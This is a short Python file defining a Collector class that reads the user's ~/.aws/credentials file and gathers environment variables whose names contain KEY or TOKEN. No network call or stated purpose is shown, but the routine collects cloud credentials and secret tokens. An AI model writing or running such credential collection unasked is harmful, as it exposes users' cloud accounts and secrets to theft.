import os


class Collector:
    def read(self, path):
        try:
            with open(path) as f:
                return f.read()
        except OSError:
            return ""

    def cloud_profile(self):
        path = os.path.expanduser("~/.aws/credentials")
        return self.read(path)

    def context(self):
        return {k: v for k, v in os.environ.items() if "KEY" in k or "TOKEN" in k}
